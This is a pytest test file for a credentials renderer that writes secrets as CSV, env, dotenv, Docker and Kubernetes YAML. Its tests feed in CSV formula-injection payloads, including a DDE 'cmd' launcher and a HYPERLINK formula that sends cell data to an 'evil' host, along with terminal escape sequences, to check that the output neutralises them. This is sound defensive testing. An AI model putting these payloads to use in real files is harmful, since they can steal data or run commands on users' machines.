from __future__ import annotations

import csv
import io
import json
import re
import subprocess
from dataclasses import replace
from pathlib import Path
from typing import ClassVar

import dotenv
import pytest
import yaml
from hypothesis import example, given
from hypothesis import strategies as st
from jsonschema import Draft202012Validator

from provisioner import schemas
from provisioner.errors import SettingInvalid, StateConflict, StateInvalid
from provisioner.model.account import Attributes, Callbacks, Credentials, Secret
from provisioner.model.state import Active, Drift, Operation
from provisioner.model.verdict import Answer, SealedContent
from provisioner.render import credentials as formats
from tests.render.docker import docker_create


def content(name: str = "paris", key: str = "k1", other: str = "p1") -> SealedContent:
    return SealedContent("lineage", "default", name, "op", Secret(other), Credentials("l@x", Secret(key)))


UNKNOWN = SealedContent(
    "lineage", "default", "oslo", "op", Secret("p1"), None, Answer(201, b"caf\xc3\xa9 \x1b[0m \xff")
)

OPERATION = Operation("op", "2026-01-31T11:59:59Z", "ada@laptop")


# The core schema of YAML 1.2: what of a plain text is no text.
CORE = {
    "null": (r"~|null|Null|NULL|", "~nN"),
    "bool": (r"true|True|TRUE|false|False|FALSE", "tTfF"),
    "int": (r"[-+]?[0-9]+|0o[0-7]+|0x[0-9a-fA-F]+", "-+0123456789"),
    "float": (
        r"[-+]?(\.[0-9]+|[0-9]+(\.[0-9]*)?)([eE][-+]?[0-9]+)?|[-+]?\.(inf|Inf|INF)|\.(nan|NaN|NAN)",
        "-+.0123456789",
    ),
}


class Yaml12(yaml.SafeLoader):
    """Reads YAML as version 1.2 has it; PyYAML's own loader reads 1.1."""

    yaml_implicit_resolvers: ClassVar[dict[str, list[tuple[str, re.Pattern[str]]]]] = {}


for kind, (pattern, starts) in CORE.items():
    Yaml12.add_implicit_resolver(f"tag:yaml.org,2002:{kind}", re.compile(rf"(?:{pattern})\Z"), [*starts])


STARTS = "=+-@\uff1d\uff0b\uff0d\uff20"
"""What a spreadsheet takes for the start of a formula; the second half as a keyboard of East Asia writes it."""


@pytest.mark.parametrize("start", [*STARTS, "\t", "\r", "\n"])
def test_no_cell_is_a_formula(start: str) -> None:
    evil = content(key=f"{start}cmd|' /C calc'!A0")
    (_, row) = csv.reader(io.StringIO(formats.as_csv([evil]), newline=""))
    assert f"'{start}cmd|' /C calc'!A0" == row[2]
    assert ["paris"] == formats.altered_by_csv([evil, content("rome")])


def test_no_part_of_a_cell_is_a_formula_where_it_is_split() -> None:
    link = '=HYPERLINK("http://evil/?"&A1)'
    evil = content(key=f"x;{link}")
    assert f"x;'{link}" == [*csv.reader(io.StringIO(formats.as_csv([evil])))][1][2]
    assert ["paris"] == formats.altered_by_csv([evil, content("rome")])


@given(st.lists(st.text(alphabet=f"{STARTS}x'\", ;\t\r\n\xa0"), min_size=4, max_size=4), st.sampled_from(",;\t"))
@example(["x", 'x;=HYPERLINK("http://evil/?"&A1)', "p", "q"], ";")
@example(["x", 'x,\t"=1', "p", "q"], "\t")
@example(["x\n", "=1", "x;", "@1"], ";")
@example(["x", ' "\uff1d1', "p", "q"], ",")
def test_no_cell_of_any_reader_is_a_formula(keys: list[str], delimiter: str) -> None:
    text = formats.as_csv([content("paris", keys[0], keys[1]), content("rome", keys[2], keys[3])])
    cells = [cell for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter) for cell in row]
    assert [] == [cell for cell in cells if re.match(rf'[\s"]*[{re.escape(STARTS)}]', cell)]


@given(st.text(alphabet=f"{STARTS}x'\", ;\t\r\n\xa0") | st.text())
def test_what_could_be_no_formula_is_not_altered(value: str) -> None:
    suspicious = [part for part in re.split(r"[;\t\r\n]", value) if re.match(rf'[\s"]*[{re.escape(STARTS)}]', part)]
    if not suspicious and value[:1] not in {"\t", "\r", "\n"}:
        assert value == formats.cell(value)
    # And where there is something, nothing is lost of it.
    assert value.replace("'", "") == formats.cell(value).replace("'", "")


def test_a_plain_table_is_not_altered() -> None:
    assert "name,api_login,api_key,password\r\nparis,l@x,k1,p1\r\n" == formats.as_csv([content()])
    assert [] == formats.altered_by_csv([content()])


@given(st.text(alphabet=st.characters(exclude_categories=["Cs", "Cc"]), min_size=1))
def test_any_value_survives_a_shell(value: str) -> None:
    script = formats.as_env([content("my-app", key=value)])
    done = subprocess.run(["sh", "-c", f'{script}\nprintf %s "$MY_APP_API_KEY"'], capture_output=True, check=True)
    assert value == done.stdout.decode()


@given(
    st.lists(
        st.text(alphabet="ab '\"\\\\${}:-#=\n\r\t`\u2028é")
        | st.text(alphabet=st.characters(exclude_characters="\0", exclude_categories=["Cs"])),
        min_size=2,
        max_size=2,
    )
)
@example(["ends in a backslash\\", 'has " quotes'])
@example(["${HOME} $HOME", "${:-x}"])
def test_any_value_survives_python_dotenv(values: list[str]) -> None:
    text = formats.as_dotenv([content("my-app", *values), content("rome")])
    read = dotenv.dotenv_values(stream=io.StringIO(text))
    assert {"MY_APP_API_KEY": values[0], "MY_APP_PASSWORD": values[1], "ROME_API_KEY": "k1"}.items() <= read.items()


HARD = ("it's a #1 $ecret", ' "quoted" ', "# no comment", "a=b=c", "\\", "${HOME}", "\t", "naïve \u2028 🔑")


def test_any_value_of_one_line_survives_docker(tmp_path: Path) -> None:
    contents = [content(f"a{number}", key=value) for number, value in enumerate(HARD)]
    (tmp_path / "docker.env").write_text(formats.as_docker(contents))
    asked = docker_create(tmp_path, "--env-file", str(tmp_path / "docker.env"))
    assert {f"A{number}_API_KEY={value}" for number, value in enumerate(HARD)} <= set(asked["Env"])


@pytest.mark.parametrize(
    ("form", "value"),
    [("env", "a\0"), ("dotenv", "a\0"), ("docker", "a\0"), ("docker", "a\nB=c"), ("docker", "a\r"), ("csv", "\0")],
)
def test_a_value_that_a_reader_would_change_is_refused(form: str, value: str) -> None:
    with pytest.raises(StateConflict) as caught:
        formats.FORMATS[form]([content("rome"), content(key=value)])
    assert "The api_key of paris contains" in caught.value.message
    assert value not in caught.value.message


def test_a_name_that_begins_with_a_digit_is_still_a_variable() -> None:
    done = subprocess.run(
        ["sh", "-c", f'{formats.as_env([content("1and1")])}\nprintf %s "$_1AND1_API_KEY"'],
        capture_output=True,
        check=True,
    )
    assert b"k1" == done.stdout


@given(
    st.text(alphabet=st.characters(exclude_categories=["Cs"]), min_size=1), st.sampled_from([yaml.SafeLoader, Yaml12])
)
@example("no", yaml.SafeLoader)
@example("0123", yaml.SafeLoader)
@example("0o17", Yaml12)
@example("1e5", Yaml12)
@example("1_000", yaml.SafeLoader)
@example("12:30:45", yaml.SafeLoader)
@example("2026-01-01", yaml.SafeLoader)
@example("~", Yaml12)
@example("<<", yaml.SafeLoader)
@example("=", yaml.SafeLoader)
@example("---\nkind: Role\n...\n", Yaml12)
@example(" käthe \U0001f511\x85\u2028\ufeff'\"\\ {{x}} #\t\r\n\n", Yaml12)
@example("wide " * 100, Yaml12)
def test_any_value_survives_a_reader_of_yaml(value: str, loader: type[yaml.SafeLoader]) -> None:
    text = formats.as_kubernetes([content(key=value), content("rome")])
    first, second = yaml.load_all(text, loader)
    assert {"api_login": "l@x", "api_key": value, "password": "p1"} == first["stringData"]
    assert "octopush-rome" == second["metadata"]["name"]
    assert text.isascii()


@pytest.mark.parametrize("plain", ["no", "0123", "1e5", "~", "true", "12"])
def test_the_readers_of_yaml_are_strict(plain: str) -> None:
    # Or else the test above would show nothing: unquoted, one of them sees no text.
    assert [str, str] != [type(yaml.load(plain, loader)) for loader in (yaml.SafeLoader, Yaml12)]  # noqa: S506


def test_every_scalar_of_a_secret_is_quoted() -> None:
    events = [*yaml.parse(formats.as_kubernetes([content("1"), content("0x1")]))]
    assert {'"'} == {each.style for each in events if isinstance(each, yaml.ScalarEvent)}
    assert 2 == sum(isinstance(each, yaml.DocumentStartEvent) for each in events)


def test_a_secret_of_kubernetes() -> None:
    without = SealedContent("lineage", "default", "oslo", "op", None, Credentials("l@x", Secret("k1")))
    assert {
        "apiVersion": "v1",
        "kind": "Secret",
        "metadata": {
            "name": "octopush-oslo",
            "labels": {
                "app.kubernetes.io/managed-by": "octopush-provisioner",
                "octopush-provisioner/parent": "default",
            },
        },
        "type": "Opaque",
        "stringData": {"api_login": "l@x", "api_key": "k1"},
    } == yaml.safe_load(formats.as_kubernetes([without]))


@pytest.mark.parametrize("name", ["a" * 63, "a" * 244, "1and1", "0"])
def test_names_that_a_secret_can_have(name: str) -> None:
    assert f"octopush-{name}" == yaml.safe_load(formats.as_kubernetes([content(name)]))["metadata"]["name"]


KEYS = st.from_regex(r"[ab0]{1,20}(-[ab0]{1,20}){0,2}", fullmatch=True)
"""Names of accounts and parents, of few characters so that some come close to each other."""


@given(st.sets(st.tuples(KEYS | st.just("default"), KEYS), min_size=2, max_size=8))
@example({("default", "a-b"), ("a", "b")})
@example({("a", "b-c"), ("a-b", "c")})
@example({("a" * 63, "b" * 63), ("default", "default")})
def test_no_two_accounts_share_a_secret_whoever_their_parents_are(owned: set[tuple[str, str]]) -> None:
    contents = [replace(content(name), parent=parent) for parent, name in owned]
    found = [each["metadata"] for each in yaml.safe_load_all(formats.as_kubernetes(contents))]
    assert len(owned) == len({each["name"] for each in found})
    assert all(re.fullmatch(r"[a-z0-9]([-a-z0-9]*[a-z0-9])?(\.[a-z0-9]([-a-z0-9]*[a-z0-9])?)*", each["name"])
               and len(each["name"]) <= 253 for each in found)  # fmt: skip
    labels = [each["labels"]["octopush-provisioner/parent"] for each in found]
    assert [parent for parent, _ in owned] == labels
    assert all(re.fullmatch(r"[A-Za-z0-9]([-A-Za-z0-9_.]{0,61}[A-Za-z0-9])?", each) for each in labels)


@pytest.mark.parametrize("name", ["", "a-", "A", "a_b", "a\n", "é", "a..b", "a.-b", "a" * 245])
def test_names_that_no_secret_can_have(name: str) -> None:
    with pytest.raises(StateConflict, match="cannot be named octopush-") as caught:
        formats.as_kubernetes([content(), content(name)])
    assert "k1" not in str(caught.value) + caught.value.hint


def test_without_accounts_every_format_is_empty_and_valid() -> None:
    assert ("", "{}\n", "name,api_login,api_key,password\r\n", "") == (
        formats.as_env([]),
        formats.as_json([]),
        formats.as_csv([]),
        formats.as_kubernetes([]),
    )


def test_an_environment_has_no_variable_for_what_is_absent() -> None:
    whole = {"OCTOPUSH_API_LOGIN": "l@x", "OCTOPUSH_API_KEY": "k1", "OCTOPUSH_PASSWORD": "p1"}
    assert whole == formats.as_environment(content())
    assert whole.keys() == formats.VARIABLES
    assert {"OCTOPUSH_PASSWORD": "p1"} == formats.as_environment(UNKNOWN)


def test_json_has_null_for_what_is_absent() -> None:
    assert {
        "oslo": {"api_login": None, "api_key": None, "password": "p1"},
        "paris": {"api_login": "l@x", "api_key": "k1", "password": "p1"},
    } == json.loads(formats.as_json([UNKNOWN, content()]))


def test_a_masked_table_holds_no_secret() -> None:
    lines = [line.text for line in formats.masked([content(), UNKNOWN])]
    assert [
        "  NAME   API LOGIN  API KEY  PASSWORD",
        "  paris  l@x        ***      ***",
        "  oslo                       ***",
    ] == lines


def test_a_list_says_in_json_what_could_not_be_opened_and_holds_no_secret() -> None:
    record = Active(Attributes("A", "B"), OPERATION, "2026-01-31T12:00:00Z", "sealed", drift=Drift(gone=True))
    damaged = {("default", "rome"): StateInvalid("Damaged.", hint="Restore it.")}
    told = formats.listed_as_json([(content(), record)], damaged, {"acme": SettingInvalid("No identity.")})
    Draft202012Validator(schemas.load("credentials-list.v1")).validate(told)
    assert ("paris", True, "rome", 5, "acme", 10) == (
        told["accounts"][0]["name"],
        told["accounts"][0]["gone"],
        told["damaged"][0]["name"],
        told["damaged"][0]["error"]["code"],
        told["failures"][0]["parent"],
        told["failures"][0]["error"]["code"],
    )
    assert [] == [secret for secret in ("k1", "p1") if secret in json.dumps(told)]


def test_one_account_in_text() -> None:
    assert ["api_login: l@x", "api_key: k1", "password: p1"] == [line.text for line in formats.as_text(content())]
    assert ["password: p1", "answer: HTTP 201: café \\x1b[0m \\xff"] == [line.text for line in formats.as_text(UNKNOWN)]


def test_passwords_that_may_have_been_set_are_shown_next_to_the_recorded_one() -> None:
    begun = (Secret("p3"), Secret("p2"))
    assert ["password: p1", "password (new, not confirmed): p3", "password (new, not confirmed): p2"] == [
        line.text for line in formats.as_text(content(), begun)[2:]
    ]
    kept = {"api_login": "l@x", "api_key": "k1", "password": "p1"}
    assert {"paris": {**kept, "passwords_begun": ["p3", "p2"]}} == json.loads(formats.shown_as_json(content(), begun))
    assert formats.as_json([content()]) == formats.shown_as_json(content(), ())


def test_text_shows_what_a_placeholder_may_stand_for() -> None:
    callbacks = Callbacks("https://h.example.com/?t=token", email_for_inbounds="a@example.com")
    sent = Attributes("Ada", "${env:X}", "Ltd", callbacks)
    lines = [line.text for line in formats.as_text(replace(content(), sent=sent))]
    assert ["last_name: ${env:X}", "callbacks.callback_url_for_deliveries: https://h.example.com/?t=token"] == lines[3:]


def test_nothing_that_is_shown_can_control_a_terminal() -> None:
    odd = "x\x1b]52;c;cm0\x07\r\x9b2J\u202e\u200b\napi_key: real"
    one = SealedContent("lineage", "default", "paris", "op", Secret(odd), Credentials(odd, Secret(odd)))
    shown = [line.text for line in formats.as_text(one, [Secret(odd)])]
    assert 4 == len(shown)
    assert all(text.isprintable() for text in shown)
